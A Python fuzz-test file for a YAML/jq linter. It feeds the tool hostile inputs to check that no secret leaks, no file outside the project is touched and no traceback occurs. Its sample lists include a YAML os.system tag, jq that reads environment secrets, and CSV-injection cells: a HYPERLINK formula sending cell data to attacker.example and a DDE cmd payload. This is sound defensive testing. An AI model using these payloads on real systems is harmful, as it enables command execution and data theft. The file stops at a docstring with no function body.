"""Property-based fuzzing of every command and the API (hypothesis).

Generated inputs: YAML text mutated at random places (hostile tags, huge numbers, aliases,
nesting, control characters, broken indentation), definitions with random values and hostile jq
at random fields, hostile objects and pods, fixture files with odd quoting, line endings and file
references, configuration files and command lines. Properties, for every input:

- no traceback (an exception escaping ``main`` fails the example) and no hang (an alarm);
- the exit code is 0, 1 or 2, and a run that exits 2 says why on a ``kartalint: error:`` line;
- a planted secret (an environment variable and a file outside the project) never appears in
  any output;
- ``test --update`` never changes a byte outside the ``expect`` block.

The default run is bounded (well under 60 s on two cores) and marked ``slow`` (left out of the inner
loop, run by CI); set ``KARTALINT_FUZZ_EXAMPLES`` (for example 2000) for a longer campaign: it
scales every test's number of examples.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys
import time
from typing import Any

import pytest
import yaml

hypothesis = pytest.importorskip("hypothesis")
from conftest import BASE_DEFINITION  # noqa: E402
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

import kartalint  # noqa: E402
from kartalint.cli import main  # noqa: E402
from kartalint.errors import ArgumentError  # noqa: E402

pytestmark = pytest.mark.slow  # campaigns: CI runs them, the inner loop (-m "not slow") leaves them out

SCALE = float(os.environ.get("KARTALINT_FUZZ_EXAMPLES", "0") or 0) / 100 or 1.0
SECRET = "PLANTED-fuzz-s3cret-7d1e"
HANG_SECONDS = 60


def examples(n: int) -> Any:
    return settings(
        max_examples=max(1, int(n * SCALE)),
        deadline=None,
        derandomize="KARTALINT_FUZZ_EXAMPLES" not in os.environ,
        suppress_health_check=list(HealthCheck),
        database=None,
    )


DEFINITION = yaml.safe_load(BASE_DEFINITION)
OBJECT = {
    "apiVersion": "example.com/v1",
    "kind": "Trainer",
    "metadata": {"name": "t", "uid": "u", "labels": {"a": "b"}},
    "spec": {
        "roles": [
            {
                "name": "leader",
                "replicas": 1,
                "template": {
                    "spec": {
                        "containers": [
                            {
                                "name": "c",
                                "resources": {"limits": {"nvidia.com/gpu": 1, "cpu": "500m", "memory": "1Gi"}},
                            }
                        ]
                    }
                },
            },
            {
                "name": "worker",
                "replicas": 3,
                "template": {"spec": {"containers": [{"name": "c", "resources": {"limits": {"nvidia.com/gpu": 8}}}]}},
            },
        ]
    },
    "status": {"phase": "Running", "conditions": [{"type": "Failed", "status": "False"}]},
}
POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "p", "labels": {"example.com/role": "worker"}},
    "spec": {"containers": [{"name": "c"}]},
    "status": {"phase": "Running"},
}

# -- the project every example runs in -------------------------------------------------------------


def fixture_text(name: str, **fields: Any) -> str:
    """A fixture of the fuzz project expecting ``Running``: ``object`` or ``objectFile``, maybe a ``definition``."""
    document = {"apiVersion": "kartalint/v1", "kind": "KartaFixture", "name": name, "source": "fuzz", **fields}
    return yaml.safe_dump({**document, "expect": {"statuses": ["Running"]}}, sort_keys=False)


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """tmp/outside/secret.yaml (a file no output may show) and tmp/project, a git repository with
    a definition, a fixture and an object; the secret is also in the environment."""
    base = tmp_path_factory.mktemp("fuzz")
    (base / "outside").mkdir()
    (base / "outside" / "secret.yaml").write_text(
        yaml.safe_dump(dict(OBJECT, metadata={"name": SECRET, "uid": SECRET}))
    )
    (base / "outside" / "secret.json").write_text(json.dumps(SECRET))
    (base / "outside" / "secret.jq").write_text(f'def s: "{SECRET}";')
    root = base / "project"
    (root / "defs").mkdir(parents=True)
    (root / "defs" / "trainer.yaml").write_text(BASE_DEFINITION)
    (root / "fixtures" / "example-com-trainer-v1").mkdir(parents=True)
    (root / "fixtures" / "example-com-trainer-v1" / "ok.yaml").write_text(fixture_text(name="ok", object=OBJECT))
    (root / "obj.yaml").write_text(yaml.safe_dump(OBJECT))
    (root / "pods.yaml").write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "List", "items": [POD]}))
    (root / ".kartalint.yaml").write_text("definitions: [defs]\nfixtures: [fixtures]\n")
    env = dict(
        os.environ, GIT_AUTHOR_NAME="f", GIT_AUTHOR_EMAIL="f@e", GIT_COMMITTER_NAME="f", GIT_COMMITTER_EMAIL="f@e"
    )
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "base"]):
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, env=env)
    return root


@contextlib.contextmanager
def guarded(project, monkeypatch_env=True):
    """cwd in the project, the secret in the environment, CI unset, and an alarm against hangs."""
    old_cwd, old_env = os.getcwd(), dict(os.environ)
    os.chdir(project)
    os.environ["KARTALINT_FUZZ_SECRET"] = SECRET
    os.environ.pop("CI", None)

    def hang(signum, frame):  # pragma: no cover - only on a hang
        raise AssertionError(f"no answer within {HANG_SECONDS} s: a hang")

    previous = signal.signal(signal.SIGALRM, hang)
    signal.alarm(HANG_SECONDS)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
        os.chdir(old_cwd)
        os.environ.clear()
        os.environ.update(old_env)


def run_cli(argv: list[str], stdin: str = "") -> tuple:
    """(exit code, stdout, stderr) of ``kartalint ARGV`` in-process; any exception but argparse's
    SystemExit escapes and fails the example."""
    out, err = io.StringIO(), io.StringIO()
    old = sys.stdin, sys.stdout, sys.stderr
    sys.stdin = io.TextIOWrapper(io.BytesIO(stdin.encode("utf-8", "surrogatepass")), encoding="utf-8")
    sys.stdout, sys.stderr = out, err
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse: usage errors
        code = exc.code if isinstance(exc.code, int) else 2
    finally:
        sys.stdin, sys.stdout, sys.stderr = old
    return code, out.getvalue(), err.getvalue()


def check_run(code: int, out: str, err: str, argv: Any) -> None:
    assert code in (0, 1, 2), (argv, code, err)
    assert "Traceback" not in err, (argv, err)
    if code == 2:
        assert "error:" in err or "usage:" in err, (argv, err)
    if not any("outside/secret" in a for a in argv):  # a file named on the command line is the user's to read
        assert SECRET not in out and SECRET not in err, (argv, "the planted secret leaked")


# -- building blocks ----------------------------------------------------------------------------------

HOSTILE_SCALARS = [
    "!!int abc",
    "!!float xyz",
    "!!bool maybe",
    "!!timestamp x",
    "!!timestamp 2020-13-45",
    "!!timestamp 2024-01-02",
    "!!binary aGVsbG8=",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!python/object:os.system ls",
    "1" * 4400,
    "0x" + "f" * 4000,
    ".nan",
    "-.inf",
    "1e400",
    "&a [*a]",
    "*undefined",
    "{a: 1, a: 2}",
    "[[[[[[[[[[",
    "'unclosed",
    '"\\x00\\u0007"',
    "\t",
    "?",
    "- - -",
    "|\n  block",
    "!!str",
    "!Ref Foo",
    "~",
    "{" * 300 + "}" * 300,
    "@",
    "`",
    "%TAG",
]
HOSTILE_JQ = [
    "env",
    "$ENV",
    "env.KARTALINT_FUZZ_SECRET",
    "$ENV.KARTALINT_FUZZ_SECRET",
    "input",
    "inputs",
    "input_filename",
    "$__loc__",
    "$__prog_args",
    "debug",
    "stderr",
    "halt",
    "halt_error",
    'error("x")',
    "error(null)",
    'import "secret" as $s {search: "OUTSIDE"}; $s',
    'include "secret" {search: "OUTSIDE"}; s',
    'import "secret" as s; 1',
    "def f: f; f",
    "def f: [f]; f",
    "[range(1e9)]",
    "[range(5000)][]",
    "repeat(1)",
    "last(range(1e12))",
    "reduce range(3000) as $i (1; [.])",
    '"\\(.)" * 100000',
    "tostring * 1000",
    "ltrimstr(1)",
    "@base64d",
    "@sh",
    'getpath(["a",0,"b"])',
    'splits("(a+)+$")',
    'test("(a|a)*b")',
    ".[] as [$a] | $a",
    "..",
    "[..] | length",
    "path(..)",
    "tojson | fromjson",
    "now",
    "input_line_number",
    "$x",
    ".a.b.c[",
    "|",
    "",
    " ",
    "\u0000",
    ".spec.roles[] | .replicas * .missing",
    "limit(-1; 1)",
    'splits("")',
    "getpath([1e400])",
    "[.[]?] | implode",
    "infinite",
    "nan",
    "-infinite | floor",
    "pow(10; 400)",
    "1e400",
    '"\\u0000"',
    " and ".join([".x"] * 1500),
    " | ".join([".a"] * 300),
    "def f: g; def g: f; f | .x",
    ". as $x | " * 150 + "$x.a",
    "if .a then .b elif .c then .d else .e end | select(.f != null) | .g * 2",
    "reduce .a[] as $x (0; . + $x.n * .m)",
]
JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=True)
    | st.text(max_size=40)
    | st.sampled_from(["Running", "True", "worker", "8", "1Gi", "9" * 5000, "1e400", "-3", "NaN"]),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.text(max_size=8) | st.sampled_from(["name", "type", "status", "replicas"]), children, max_size=4
        )
    ),
    max_leaves=12,
)


def paths_of(value: Any, prefix: tuple = ()) -> list[tuple]:
    out = [prefix]
    if isinstance(value, dict):
        for key, child in value.items():
            out.extend(paths_of(child, (*prefix, key)))
    elif isinstance(value, list):
        for i, child in enumerate(value):
            out.extend(paths_of(child, (*prefix, i)))
    return out


def replaced(document: Any, path: tuple, value: Any) -> Any:
    document = copy.deepcopy(document)
    if not path:
        return value
    parent = document
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return document


@st.composite
def mutated(draw, document: Any, values=JSON_VALUES, jq: bool = False) -> Any:
    """``document`` with one to three places replaced by random JSON (or hostile jq text)."""
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(paths_of(document)))
        pool = values | st.sampled_from(HOSTILE_JQ) if jq else values
        value = draw(pool)
        if isinstance(value, str) and "OUTSIDE" in value:
            value = value.replace("OUTSIDE", OUTSIDE[0])
        document = replaced(document, path, value)
    return document


OUTSIDE = [""]  # the outside folder, filled in by the fixture user


@st.composite
def mutated_text(draw, text: str) -> str:
    """YAML ``text`` with hostile scalars, deletions, insertions or duplicated lines at random lines."""
    lines = text.split("\n")
    for _ in range(draw(st.integers(1, 3))):
        i = draw(st.integers(0, max(0, len(lines) - 1)))
        action = draw(st.sampled_from(["scalar", "delete", "insert", "indent", "duplicate", "chars"]))
        line = lines[i] if lines else ""
        if action == "scalar" and ":" in line:
            key = line.split(":", 1)[0]
            lines[i] = f"{key}: {draw(st.sampled_from(HOSTILE_SCALARS))}"
        elif action == "delete" and lines:
            del lines[i]
        elif action == "insert":
            lines.insert(i, draw(st.sampled_from(HOSTILE_SCALARS)))
        elif action == "indent" and lines:
            lines[i] = draw(st.sampled_from(["\t", " ", "   "])) + line
        elif action == "duplicate" and lines:
            lines.insert(i, line)
        else:
            lines.insert(i, draw(st.text(max_size=20)))
    return draw(st.sampled_from(["\n", "\r\n"])).join(lines)


# -- lint: any text --------------------------------------------------------------------------------------

FIXTURE_TEXT = yaml.safe_dump(
    {
        "apiVersion": "kartalint/v1",
        "kind": "KartaFixture",
        "name": "f",
        "source": "fuzz",
        "definition": "../defs/trainer.yaml",
        "object": OBJECT,
        "expect": {"statuses": ["Running"]},
    },
    sort_keys=False,
)
CRD_TEXT = pathlib.Path(os.path.dirname(__file__), "data", "crds", "example.com_trainers.yaml").read_text(
    encoding="utf-8"
)


@examples(200)
@given(text=st.sampled_from([BASE_DEFINITION, FIXTURE_TEXT]).flatmap(mutated_text))
def test_lint_any_text(project, text):
    with guarded(project):
        path = project / "fuzzed.yaml"
        path.write_text(text, encoding="utf-8", errors="surrogateescape")
        for argv in (["lint", "fuzzed.yaml"], ["lint", "-f", "json", "fuzzed.yaml"], ["lint", "--strict", "-"]):
            code, out, err = run_cli(argv, stdin=text if "-" in argv else "")
            check_run(code, out, err, argv)
            if "-f" in argv and code != 2:
                json.loads(out)


@examples(40)
@given(text=mutated_text(CRD_TEXT))
def test_crds_of_any_shape(project, text):
    with guarded(project):
        (project / "crd.yaml").write_text(text)
        for argv in (["new", "--crd", "crd.yaml", "-o", "draft.yaml"], ["lint", "--crd", "crd.yaml", "defs"]):
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)


# the keywords of a CRD schema every reader relies on, and values of every type for them
SCHEMA_KEYWORDS = [
    "type",
    "format",
    "pattern",
    "minimum",
    "maximum",
    "exclusiveMinimum",
    "multipleOf",
    "minLength",
    "maxLength",
    "minItems",
    "maxItems",
    "uniqueItems",
    "nullable",
    "enum",
    "default",
    "required",
    "items",
    "properties",
    "additionalProperties",
    "x-kubernetes-validations",
    "x-kubernetes-list-type",
    "x-kubernetes-list-map-keys",
    "x-kubernetes-int-or-string",
    "x-kubernetes-preserve-unknown-fields",
    "allOf",
    "not",
]
KEYWORD_VALUES = (
    JSON_VALUES
    | st.sampled_from(["integer", "object", "array", "int", "[", "(a", "date-time", "map", -1, 0, 3, 10**9, 2.5])
    | st.lists(st.fixed_dictionaries({"rule": JSON_VALUES}, optional={"message": JSON_VALUES}), max_size=2)
    | st.lists(
        st.sampled_from(["self.size() > 1", "self.a == 1", "has(self.x)"]).map(lambda r: {"rule": r}), max_size=2
    )
)


def schema_paths(schema: Any, path: tuple = ()) -> list[tuple]:
    """The paths of the schemas (maps) in a schema tree, through properties and items."""
    if not isinstance(schema, dict):
        return []
    out = [path]
    properties = schema.get("properties")
    for name, child in properties.items() if isinstance(properties, dict) else ():
        out += schema_paths(child, (*path, "properties", name))
    out += schema_paths(schema.get("items"), (*path, "items"))
    return out


@st.composite
def hostile_crds(draw) -> Any:
    """The Trainer CRD with one to three keywords of its schemas set to anything (right or wrong
    type, contradictory bounds, rules that are not rules)."""
    document = yaml.safe_load(CRD_TEXT)
    root = document["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    for _ in range(draw(st.integers(1, 3))):
        node = root
        for key in draw(st.sampled_from(schema_paths(root))):
            node = node[key]
        node[draw(st.sampled_from(SCHEMA_KEYWORDS))] = draw(KEYWORD_VALUES)
    return document


@examples(15)
@given(document=hostile_crds())
def test_explore_and_drafts_on_crds_with_hostile_keywords(project, tmp_path_factory, document):
    """explore, new --crd and init --crd on a CRD whose keywords are of any type: one positioned
    error (exit 2) or a run, never a traceback or a hang (the CRD validation comes first)."""
    with guarded(project):
        (project / "hostile-crd.yaml").write_text(yaml.safe_dump(document))
        fresh = tmp_path_factory.mktemp("init")
        for argv in (
            ["explore", "defs/trainer.yaml", "--crd", "hostile-crd.yaml", "--examples", "3", "--max-time", "5"],
            ["new", "--crd", "hostile-crd.yaml", "-o", "draft.yaml"],
            ["init", "--crd", "hostile-crd.yaml", "--root", str(fresh), "--rev", "v0"],
        ):
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)


@examples(40)
@given(
    text=st.sampled_from(
        [
            "definitions: [defs]\nfixtures: [fixtures]\n",
            "rules:\n  jq-unsafe: error\nexclude: [x]\nmax-file-size: 100\ncrds: []\n",
        ]
    ).flatmap(mutated_text)
)
def test_configuration_of_any_shape(project, text):
    with guarded(project):
        config = project / "fuzz-config.yaml"
        config.write_text(text)
        for argv in (["lint", "-c", "fuzz-config.yaml", "defs"], ["test", "-c", "fuzz-config.yaml", "fixtures"]):
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)


# -- configuration files, baselines, outputs and suppressions (issue 45) ---------------------------------

_OPENED: list[str] | None = None  # while a campaign's command runs: every real path opened or listed


def _audit(event: str, args: tuple) -> None:
    if _OPENED is not None and event in ("open", "os.listdir", "os.scandir") and args:
        path = args[0]
        if isinstance(path, (str, bytes, os.PathLike)):
            with contextlib.suppress(TypeError, ValueError):
                _OPENED.append(os.path.realpath(os.fsdecode(path)))


@contextlib.contextmanager
def audited(outside: pathlib.Path):
    """Asserts that nothing under ``outside`` is opened or listed in the block (Python's audit hook,
    added once per process), and caps the process's address space at 2 GiB above what it uses, so
    a read without limit is a MemoryError (a traceback: the example fails), not the machine's
    memory."""
    global _OPENED
    if not getattr(sys, "_kartalint_fuzz_audit", False):
        sys.addaudithook(_audit)
        sys._kartalint_fuzz_audit = True  # type: ignore[attr-defined]
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    with open("/proc/self/statm", encoding="ascii") as handle:
        used = int(handle.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
    cap = used + (2 << 30)
    resource.setrlimit(resource.RLIMIT_AS, (cap if hard == resource.RLIM_INFINITY else min(cap, hard), hard))
    _OPENED = []
    try:
        yield
        real = os.path.realpath(outside)
        read = [p for p in _OPENED if p == real or p.startswith(real + os.sep)]
        assert not read, ("opened outside the project", read)
    finally:
        _OPENED = None
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


TOML_VALUES = st.sampled_from(
    [
        '"defs"',
        "['defs', 'fixtures']",
        "100",
        "1e400",
        "nan",
        "inf",
        "9" * 5000,
        "0x" + "f" * 5000,
        "1" + "0" * 1500 + ".5",
        "[" * 1000 + "]" * 1000,
        "{a = " * 1000 + "1" + "}" * 1000,
        "[" * 99 + "]" * 99,
        '"\\u0000"',
        '"a\\nkartalint: error: forged"',
        "'''multi\nline'''",
        '"unterminated',
        "[1, 'a', {b = 2}]",
        "1979-05-27T07:32:00Z",
        "true",
        "{ jq-not-portable = 'off' }",
        "",
    ]
)
TOML_KEYS = st.sampled_from(["definitions", "fixtures", "exclude", "max-file-size", "rules", "crds", "x", "a.b.c"])
TOML_HEADERS = st.sampled_from(
    ["[tool.kartalint]", "[tool.kartalint.rules]", "[[tool.kartalint]]", "[tool]", "[tool.kartalint", ""]
)


@st.composite
def toml_texts(draw) -> str:
    lines = [draw(TOML_HEADERS)]
    for _ in range(draw(st.integers(0, 4))):
        lines.append(f"{draw(TOML_KEYS)} = {draw(TOML_VALUES)}")
        if draw(st.integers(0, 5)) == 0:
            lines.append(draw(TOML_HEADERS))
    return "\n".join(lines) + draw(st.sampled_from(["\n", "", "\r\n"]))


# where a configuration file or a baseline is: a file, or something it must never read
PLACES = ["file", "file", "file", "link-outside", "link-device", "link-folder", "link-dangling", "fifo", "folder"]


def _place(path: pathlib.Path, place: str, text: str, outside: pathlib.Path) -> None:
    """Put ``text`` at ``path`` as ``place`` says (the links point outside the project)."""
    if place == "file":
        path.write_text(text, encoding="utf-8", errors="surrogateescape")
    elif place == "link-outside":
        path.symlink_to(outside / "secret.yaml")
    elif place == "link-device":
        path.symlink_to("/dev/zero")
    elif place == "link-folder":
        path.symlink_to(outside)
    elif place == "link-dangling":
        path.symlink_to(outside / "missing")
    elif place == "fifo":
        os.mkfifo(path)
    else:
        path.mkdir()


def _clear(*paths: pathlib.Path) -> None:
    for path in paths:
        if path.is_symlink() or path.is_file() or (path.exists() and not path.is_dir()):
            path.unlink()
        elif path.is_dir():
            shutil.rmtree(path)


@examples(60)
@given(
    name=st.sampled_from([".kartalint.yaml", ".kartalint.yml", "pyproject.toml"]),
    place=st.sampled_from(PLACES),
    text=st.one_of(
        toml_texts(),
        st.sampled_from(["definitions: [defs]\nfixtures: [fixtures]\n", "rules: {jq-unsafe: off}\n"]).flatmap(
            mutated_text
        ),
    ),
)
def test_configuration_files_of_any_shape_and_place(project, name, place, text):
    """A configuration file (YAML or TOML: hostile values, nesting, numbers) that may be a link out
    of the project, to a device or a folder, or a FIFO: every command ends with 0, 1 or 2, never a
    traceback or a hang, never shows the secret, never opens a file outside the project; a link out
    is refused with a message that says so."""
    folder = project / "sub"
    folder.mkdir(exist_ok=True)
    (folder / "def.yaml").write_text(BASE_DEFINITION)
    config = folder / name
    outside = project.parent / "outside"
    try:
        _place(config, place, text, outside)
        with guarded(folder), audited(outside):
            for argv in (
                ["lint", "def.yaml"],
                ["test", "def.yaml"],
                ["describe", "../obj.yaml", "--definition", "def.yaml"],
            ):
                code, out, err = run_cli(argv)
                check_run(code, out, err, argv)
                if place in ("link-outside", "link-device"):
                    assert code == 2 and "refused, never read" in err, (argv, place, err)
    finally:
        _clear(config)


BASELINE_TEXTS = st.one_of(
    st.builds(
        lambda version, entries: json.dumps({"schemaVersion": version, "tool": "kartalint", "findings": entries}),
        st.one_of(st.just(1), JSON_VALUES),
        st.one_of(st.lists(st.fixed_dictionaries({"fingerprint": st.text(max_size=20)}), max_size=3), JSON_VALUES),
    ),
    JSON_VALUES.map(json.dumps),
    st.sampled_from(
        [
            "[" * 100_000 + "]" * 100_000,
            '{"schemaVersion": 1, "findings": [' * 50 + "]}" * 50,
            '{"schemaVersion": ' + "9" * 5000 + "}",
            '{"schemaVersion": 1e99999, "findings": []}',
            '{"schemaVersion": NaN}',
            '{"schemaVersion": 1, "findings": [{"fingerprint": "\\ud800"}]}',
            "\ufeff{}",
            "",
            "{",
        ]
    ),
    st.text(max_size=200),
)


@examples(60)
@given(place=st.sampled_from(PLACES), text=BASELINE_TEXTS)
def test_baselines_of_any_shape_and_place(project, place, text):
    """A baseline of any JSON (nested 100,000 deep, 5,000-digit numbers, NaN, not JSON at all) or
    a link out of the project, to /dev/zero or a folder, or a FIFO: ``lint --baseline`` ends with 0,
    1 or 2 at once (a read without limit would be a MemoryError under the cap) and never opens a
    file outside; anything but a regular file inside the project is refused."""
    baseline = project / "fuzz-baseline.json"
    outside = project.parent / "outside"
    try:
        _place(baseline, place, text, outside)
        with guarded(project), audited(outside):
            argv = ["lint", "--baseline", "fuzz-baseline.json", "defs"]
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)
            if place != "file":
                assert code == 2 and "kartalint: error: baseline fuzz-baseline.json" in err, (place, err)
    finally:
        _clear(baseline)


OUTPUT_TARGETS = [  # (the path given, what its first part is)
    ("out-link.txt", "link-file"),
    ("out-dir/new/deep/report", "link-folder"),
    ("out-null", "link-device"),
    ("out-inside/report", "link-inside"),
    ("fresh/report.txt", None),
]
OUTPUT_OPTIONS = [
    ["lint", "defs", "-o"],
    ["lint", "defs", "--write-baseline"],
    ["test", "--junit-xml"],
    ["test", "--sarif"],
    ["test", "-o"],
]


@examples(30)
@given(
    target=st.sampled_from(OUTPUT_TARGETS),
    option=st.sampled_from(OUTPUT_OPTIONS),
    fmt=st.sampled_from([[], ["-f", "json"], ["-f", "sarif"]]),
)
def test_outputs_never_leave_the_project_through_a_link(project, target, option, fmt):
    """Every output option, at a path whose file or folder is a link out of the project (to a
    file, a folder, a device) or inside it: nothing outside changes; a link out is refused."""
    path, kind = target
    outside = project.parent / "outside"
    victim = outside / "victim.txt"
    victim.write_text("keep\n")
    (outside / "dir").mkdir(exist_ok=True)
    link = project / path.split("/")[0]
    inside = project / "out-inside-target"
    if kind == "link-file":
        link.symlink_to(victim)
    elif kind == "link-folder":
        link.symlink_to(outside / "dir")
    elif kind == "link-device":
        link.symlink_to("/dev/null")
    elif kind == "link-inside":
        link.symlink_to("out-inside-target")
    before = sorted(os.listdir(outside))
    argv = [*option, path, *(fmt if option[:1] == ["lint"] and option[-1] == "-o" else [])]
    try:
        with guarded(project):
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)
            if kind in ("link-file", "link-folder", "link-device"):
                assert code == 2 and "is a symbolic link to" in err and "outside the project" in err, (argv, err)
            elif code != 2:
                assert (inside / "report" if kind else project / path).is_file(), (argv, err)
        assert victim.read_text() == "keep\n" and os.listdir(outside / "dir") == []
        assert sorted(os.listdir(outside)) == before
    finally:
        _clear(link, inside, project / "fresh")


# a directive in pieces, each (text, whether it belongs to the one form that silences); the tail
# " (a reason)" is a comment after rule ids, but after a bare `disable` it is not the form
DIRECTIVE_HASH = st.sampled_from([("#", True), ("# note ＃", False)])  # (a '＃' alone is no YAML comment)
DIRECTIVE_SPACE = st.sampled_from([(" ", True), ("", True), ("  ", True), ("\t", True)])
DIRECTIVE_NAME = st.sampled_from(
    [
        ("kartalint:", True),
        ("KARTALINT:", False),
        ("ｋａｒｔａｌｉｎｔ:", False),
        ("kartalint：", False),
        ("kartalint :", False),
    ]
)
DIRECTIVE_VERB = st.sampled_from(
    [
        ("disable", True),
        ("disable-file", True),
        ("Disable", False),
        ("ｄｉｓａｂｌｅ", False),
        ("disable-line", False),
        ("enable", False),
        ("", False),
    ]
)
DIRECTIVE_IDS = st.sampled_from(
    [
        ("", True),
        ("=unknown-owner-ref", True),
        (" = unknown-owner-ref", True),
        ("=unknown-owner-ref,jq-not-portable", True),
        ("=jq-not-portable, unknown-owner-ref", True),
        ("=", False),
        ("= ", False),
        (": unknown-owner-ref", False),
        (":unknown-owner-ref", False),
        (" unknown-owner-ref", False),
        ("=ｕｎｋｎｏｗｎ-owner-ref", False),
        ("=unknown-owner-ref,", False),
        ("=,unknown-owner-ref", False),
        ("=unknown-owner-ref，jq-not-portable", False),
    ]
)
DIRECTIVE_TAIL = st.sampled_from(
    [
        ("", True),
        (" -- why", True),
        ("  -- the operator adds it", True),
        (" (a reason)", None),
    ]  # (a word would be one more rule id after "=" or ", ")
)


@examples(200)
@given(
    parts=st.tuples(
        DIRECTIVE_HASH, DIRECTIVE_SPACE, DIRECTIVE_NAME, DIRECTIVE_SPACE, DIRECTIVE_VERB, DIRECTIVE_IDS, DIRECTIVE_TAIL
    ),
    own_line=st.booleans(),
)
def test_suppressions_of_any_shape(project, parts, own_line):
    """A directive built of pieces, each right or wrong (full-width or upper-case letters, ':' for
    '=', no rule id, a trailing comma, an unknown verb): only the one ASCII form silences; any other
    silences nothing (the finding it was written for is still reported) and is reported itself,
    as invalid-suppression, an error."""
    text = "".join(piece for piece, _ in parts)
    ids, tail = parts[5][0], parts[6][1]
    valid = all(ok for _, ok in parts[:6]) and (tail is True or (tail is None and ids != ""))
    silences = valid and ("unknown-owner-ref" in ids or ids == "")
    if own_line:
        definition = BASE_DEFINITION.replace("      ownerRef: trainer", f"      {text}\n      ownerRef: nobody")
    else:
        definition = BASE_DEFINITION.replace("ownerRef: trainer", f"ownerRef: nobody  {text}")
    with guarded(project):
        path = project / "fuzz-suppressed.yaml"
        path.write_text(definition, encoding="utf-8")
        try:
            argv = ["lint", "-f", "json", "fuzz-suppressed.yaml"]
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)
            rules = [f["rule"] for f in json.loads(out)["findings"]]
        finally:
            path.unlink()
    assert ("unknown-owner-ref" not in rules) == silences, (text, rules)
    assert ("invalid-suppression" in rules) == (not valid), (text, rules)
    assert code == (0 if silences else 1), (text, code, rules)


STRICT_DIRECTIVE = re.compile(
    r"[ \t]*(disable-file|disable)(?:[ \t]*=[ \t]*([A-Za-z0-9_-]+(?:[ \t]*,[ \t]*[A-Za-z0-9_-]+)*))?"
)


@examples(100)
@given(comment=st.text(max_size=60), where=st.sampled_from(["ownerRef: nobody", "kind: Karta", "spec:"]))
def test_any_text_after_a_directive_never_fails_and_never_hides_an_error(project, comment, where):
    """Any text after `# kartalint:`: no traceback, and the error on the ownerRef line is reported
    unless a directive of the one form there names its rule (or none)."""
    definition = BASE_DEFINITION.replace("ownerRef: trainer", "ownerRef: nobody")
    definition = definition.replace(where, f"{where}  # kartalint: {comment}", 1)
    with guarded(project):
        path = project / "fuzz-suppressed.yaml"
        path.write_text(definition, encoding="utf-8", errors="surrogateescape")
        try:
            argv = ["lint", "-f", "json", "fuzz-suppressed.yaml"]
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)
        finally:
            path.unlink()
    if code == 2 or not out.strip():
        return
    rules = [f["rule"] for f in json.loads(out)["findings"]]
    if any(rule.startswith("yaml-") for rule in rules):  # (a control character: the file is not read, lint fails)
        assert code == 1, (comment, rules)
        return
    if where.startswith("ownerRef") and "unknown-owner-ref" not in rules:
        strict = STRICT_DIRECTIVE.match(comment)
        assert strict and (strict.group(2) is None or "unknown-owner-ref" in strict.group(2)), (comment, rules)


# -- spreadsheets: the fleet summary's CSV and --compare's (issue 45) ------------------------------------

# text a spreadsheet, a CSV reader or a terminal may take for something else: formula starters, the
# ' the writer adds, quotes, commas, line breaks, workflow-command markers, bidi marks and separators
CELL_HEADS = ["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "::", " ::", "##[", "\n", '"', ",", " ", ""]
CELL_TEXTS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "-3",
    "+1.5",
    "-2e3",
    ".5",
    "-٣",  # (digits of another script: no number to a spreadsheet)
    "-１",
    "1,2",
    'say "hi"',
    "line\nbreak",
    "x\r\ny",
    "\u202eevil",
    "\u2066isolated\u2069",
    "x\u2028y\u2029",
    "::add-mask::x",
    "a##[error]forged",
    "\x1b[2Kcleared",
    "\x85\x9b",
    "ü😀",
    "'",
    "'abc",
    "",
    "=" + "A" * 5000,  # huge: longer than a spreadsheet's cell (32,767), longer than the csv module's default
    "N" * 200_000,  # field (131,072: the reader below lifts it)
]
CELL_CHARACTERS = st.characters(exclude_characters="\x00", exclude_categories=("Cs",)) | st.sampled_from(
    list("=+-@'\",:#[\t\r\n\u202e\u200f\u2028 1e.")
)
HOSTILE_CELLS = st.one_of(
    st.sampled_from(CELL_TEXTS),
    st.tuples(st.sampled_from(CELL_HEADS), st.text(CELL_CHARACTERS, max_size=12)).map("".join),
)
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
ASCII_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# what every report shows as an escape (docs/security.md): C0 but TAB and LF (and CR before LF: a line
# break), DEL, C1, the line and paragraph separators, the bidirectional embeddings, overrides and isolates
SHOWN_ESCAPED = re.compile("\r(?!\n)|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def shown_in_a_report(value: str) -> str:
    """``value`` as any report writes it (docs/security.md): each character of ``SHOWN_ESCAPED`` as
    JSON writes it (``\\r``, ``\\u001b``), ``##[`` broken by an escape, and a line inside the value
    that starts with ``::`` (a workflow command) broken by one."""
